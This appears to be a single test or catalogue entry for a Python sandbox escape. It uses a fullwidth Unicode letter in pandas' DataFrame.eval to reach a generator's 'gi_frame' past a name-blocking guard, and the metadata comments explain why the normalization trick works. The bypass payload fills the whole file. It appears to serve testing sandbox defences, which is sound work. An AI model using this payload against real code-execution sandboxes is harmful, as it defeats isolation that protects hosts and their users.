# aim: spell an attribute with letters that Python's parser turns into others
# mechanism: pandas parses the text again
# language: guard
# reason: words are normalized before they are looked up
# jail: process
# plain: loot
# imports: pandas

import pandas


def generator():
    yield


running = generator()
loot(pandas.DataFrame({"a": [1]}).eval("@running.gi_\uff46rame", engine="python"))
